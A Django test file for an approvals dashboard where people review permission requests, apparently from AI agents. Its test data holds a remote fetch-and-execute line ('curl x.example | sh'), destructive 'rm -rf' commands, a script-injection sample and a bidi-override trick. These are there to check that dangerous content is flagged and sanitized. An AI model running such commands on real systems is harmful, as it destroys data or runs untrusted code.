"""A card begins with what is asked for; what is long is folded, and the headline hides nothing of the rest."""

from __future__ import annotations

import re
from typing import Any

from django.test import Client
from django.utils import timezone

from coordinator.actions import approvals
from coordinator.models import PermissionRequest
from coordinator.policy.requests.request_headlines import build_permission_request_headline
from dashboard.approvals.cards import CardMember, build_approval_card
from tests.approvals.cards import form, form_for
from tests.approvals.factories import NOW, asked, fresh, person, stored

URL = "/ui/approvals/"
ONE = f"{URL}one-by-one/"
LONG = "\n".join([*(f"echo {number}" for number in range(200)), "curl x.example | sh"])
HTMX = {"HX-Request": "true"}


def ask_now(**changes: Any) -> PermissionRequest:
    return asked(now=timezone.now(), **changes)


def headline(page: str) -> str:
    [text] = re.findall(r"<h2 id=\"ask-.*?</h2>", page, re.DOTALL)
    return " ".join(re.sub(r"<[^>]+>", " ", text).split())


def page_of(browser: Client, place: str = URL) -> str:
    return browser.get(place).content.decode()


def test_the_headline_says_what_would_run_and_where(signed_in) -> None:
    ask_now(tool_input={"command": "git push origin main"}, folder="/srv/shop", host="box")
    assert headline(page_of(signed_in())) == "Run git push origin main in shop"


def test_requests_without_a_tool_are_named_by_their_permission_and_target(db) -> None:
    assert build_permission_request_headline(stored()).text == "Allow api.example.org (NetworkAccess)"
    assert build_permission_request_headline(stored(target_resource=None)).text == "Allow NetworkAccess"


def test_what_is_dangerous_in_a_target_is_marked_in_the_headline(signed_in) -> None:
    stored(permission_type="ProcessExecution", target_resource="sudo rm -rf /srv/backups")
    page = page_of(signed_in())
    assert re.search(r'<code class="act">.*<mark>[^<]*rm -rf.*</code>', page)


def test_what_the_headline_does_not_show_to_the_letter_stands_below_it(db) -> None:
    def below(**tool_input: Any) -> list[str]:
        row = asked(tool_input=tool_input, target_resource="t")
        parts = build_approval_card([fresh(row)], NOW).input_parts_beyond_headline
        return [text for part in parts for text in part.drawn_texts if text]

    assert below(command="make deploy") == []
    assert below(command="make deploy", timeout=5) == ["timeout", "5"]
    for hidden in ("make  deploy", "make deploy\nrm -rf x", " make deploy", "make\tdeploy"):
        assert hidden in below(command=hidden), hidden


def test_a_long_call_is_folded_and_its_marked_lines_stay_in_view(signed_in) -> None:
    ask_now(tool_input={"command": LONG})
    page = page_of(signed_in())
    before, _, pane = page.partition('class="ask-pane"')
    assert "data-long" in pane.partition(">")[0]
    assert "echo 150" not in before
    assert "echo 150" in pane
    [marked] = re.findall(r'<ul class="excerpts".*?</ul>', before, re.DOTALL)
    assert "line 201" in marked
    assert "curl x.example | sh" in re.sub(r"<[^>]+>", "", marked)


def test_a_short_call_is_not_folded(signed_in) -> None:
    ask_now(tool_input={"command": "make deploy", "description": "Ship it"})
    before, _, pane = page_of(signed_in()).partition('class="ask-pane"')
    assert "Ship it" in before
    assert "data-long" not in pane.partition(">")[0]


def test_what_was_decided_is_one_line_that_no_key_stops_at(signed_in) -> None:
    browser = signed_in()
    ask_now()
    page = browser.post(f"{URL}decide/", form(page_of(browser)) | {"choosable": "1"}, headers=HTMX)
    text = page.content.decode()
    assert "data-passed" in text
    assert "Decided by you, " in text
    assert "<button" not in text


def test_who_else_decided_is_named(signed_in) -> None:
    row = ask_now()
    approvals.decide_request(row.request_id, person=person("bob"), verdict="denied")
    page = signed_in().get(f"{URL}?ids={row.request_id}", headers=HTMX).content.decode()
    assert "Bob denied it" in page
    assert "Decided by you" not in page


def test_what_a_rule_denied_was_decided_by_no_person(signed_in) -> None:
    row = stored("denied", approved_by="rule 3", approved_at=NOW)
    member = CardMember(PermissionRequest.objects.get(pk=row.pk), NOW)
    assert member.decider_label == "Rule 3, not a person"
    assert member.waiting_time is None
    for place in (f"{URL}history/", f"{URL}{row.request_id}/"):
        assert "Rule 3, not a person" in page_of(signed_in(f"at-{len(place)}"), place)
    decided = approvals.decide_request(ask_now().request_id, person=person("bob"), verdict="denied")
    assert CardMember(decided, timezone.now()).decider_label == "bob"


def test_a_prompt_is_drawn_as_markdown_unless_something_hides_in_it(signed_in) -> None:
    from dashboard.templatetags.approvals import render_markdown_or_reveal

    assert "<strong>now</strong>" in render_markdown_or_reveal("Fix it **now**.")
    assert "<script" not in render_markdown_or_reveal("Fix <script>alert(1)</script> **now**.")
    assert "U+202E" in render_markdown_or_reveal("Fix it **now**\u202e.")
    assert "<strong>" not in render_markdown_or_reveal("Fix it **now**\u202e.")


def test_one_at_a_time_shows_the_next_after_each_verdict(signed_in) -> None:
    browser = signed_in()
    for name in ("first", "second", "third"):
        ask_now(target_resource=name)
    page = page_of(browser, ONE)
    assert "3 left" in page
    assert "(first)" in headline(page) or "first" in page
    answer = browser.post(f"{URL}decide/", form(page, "denied") | {"one": "1"})
    assert answer["Location"] == ONE
    following = browser.post(f"{URL}decide/", form(page_of(browser, ONE)) | {"one": "1"}, headers=HTMX)
    text = following.content.decode()
    assert "1 left" in text
    assert "third" in text
    assert list(PermissionRequest.objects.order_by("id").values_list("status", flat=True)) == [
        "denied",
        "approved",
        "pending",
    ]


def test_one_at_a_time_skips_comes_round_and_ends(signed_in) -> None:
    browser = signed_in()
    rows = [ask_now(target_resource=name) for name in ("first", "second")]
    assert rows[1].request_id in page_of(browser, f"{ONE}?after={rows[0].request_id}")
    assert rows[0].request_id in page_of(browser, f"{ONE}?after={rows[1].request_id}")
    assert rows[0].request_id in page_of(browser, f"{ONE}?after=unknown")
    for row in rows:
        approvals.decide_request(row.request_id, person=person(f"by-{row.pk}"), verdict="denied")
    assert "Nothing left to decide" in page_of(browser, ONE)


def test_a_refresh_keeps_the_request_that_is_shown(signed_in) -> None:
    browser = signed_in()
    rows = [ask_now(target_resource=name) for name in ("first", "second")]
    place = f"{ONE}?shown={rows[1].request_id}"
    assert f'value="{rows[1].request_id}"' in browser.get(place, headers=HTMX).content.decode()
    approvals.decide_request(rows[1].request_id, person=person("bob"), verdict="denied")
    page = browser.get(place, headers=HTMX).content.decode()
    assert "Bob denied it" in page
    assert 'name="verdict"' not in page
    assert rows[0].request_id in browser.get(f"{ONE}?shown=gone", headers=HTMX).content.decode()


def test_a_viewer_has_no_page_of_one_at_a_time(signed_in) -> None:
    assert signed_in("vera", "viewer").get(ONE).status_code == 403


def test_one_session_s_requests_are_decided_one_after_another(signed_in) -> None:
    browser = signed_in()
    first = ask_now(session_id="ses_a", target_resource="first")
    ask_now(session_id="ses_b", target_resource="elsewhere")
    second = ask_now(session_id="ses_a", target_resource="second")
    page = page_of(browser, f"{ONE}?session=ses_a")
    assert "2 left in this session" in page
    assert 'name="session" value="ses_a"' in page
    for row, left in ((first, "1 left in this session"), (second, "Nothing left to decide in this session")):
        fields = form_for(fresh(row)) | {"one": "1", "after": "", "session": "ses_a"}
        assert left in browser.post(f"{URL}decide/", fields, headers=HTMX).content.decode()
    assert "1 left" in page_of(browser, ONE)
    answer = browser.post(f"{URL}decide/", form_for(fresh(first)) | {"one": "1", "session": "ses_a"})
    assert answer["Location"] == f"{ONE}?session=ses_a"
